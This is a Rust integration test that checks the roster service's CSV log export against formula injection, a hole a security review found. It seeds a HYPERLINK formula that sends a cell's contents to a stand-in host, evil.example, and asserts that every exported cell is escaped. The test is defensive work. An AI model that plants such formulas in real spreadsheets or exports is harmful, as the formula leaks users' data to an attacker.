//! Holes a security review found, each closed and checked here over real HTTP:
//! what roster writes out (CSV).

mod common;

use roster_store::{AppId, LogRecord, RecordBatch};
use serde_json::{json, Value};

fn ok(status: reqwest::StatusCode, body: &Value) {
    assert!(status.is_success(), "expected success, got {status}: {body}");
}

/// A log entry about `source_name`, written as a cycle would.
async fn log_entry_about(app: &common::TestApp, app_id: &str, source_name: &str) {
    let entry = LogRecord {
        id: uuid::Uuid::new_v4().to_string(),
        app_id: AppId(app_id.to_string()),
        cycle_id: "cycle-1".into(),
        change_id: "change-1".into(),
        at: roster_store::now_ms(),
        object_kind: "user".into(),
        source_id: "src-1".into(),
        source_name: Some(source_name.into()),
        target_id: Some("@target".into()),
        action: "Create".into(),
        status: "Success".into(),
        steps: json!([]),
        modified: json!({}),
        error_code: None,
        error_message: Some("-1 rows".into()),
    };
    let batch = RecordBatch { logs: vec![entry], now: roster_store::now_ms(), ..RecordBatch::default() };
    app.store.record(&AppId(app_id.to_string()), &batch).await.expect("log entry recorded");
}

async fn log_export_writes_no_live_formula(app: &common::TestApp) {
    let (s, created) = app.post("/apps", json!({"name": "Crm", "template": "scim"})).await;
    ok(s, &created);
    let id = created["id"].as_str().expect("app id");
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    log_entry_about(app, id, formula).await;

    let csv = app
        .http
        .get(format!("{}/api/v1/apps/Crm/provisioning/logs?format=csv", app.base))
        .bearer_auth(&app.token)
        .send()
        .await
        .expect("csv export")
        .text()
        .await
        .expect("csv text");
    let row = csv.lines().nth(1).expect("one row after the header");
    assert!(row.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""), "{row}");
    assert!(row.contains(",'@target,"), "{row}");
    assert!(row.contains(",'-1 rows,"), "{row}");
    for cell in row.split(',') {
        assert!(
            !cell.trim_start_matches('"').starts_with(['=', '+', '-', '@', '\t', '\r']),
            "live cell {cell:?} in {row}"
        );
    }
}

on_both_backends!(log_export_writes_no_live_formula);
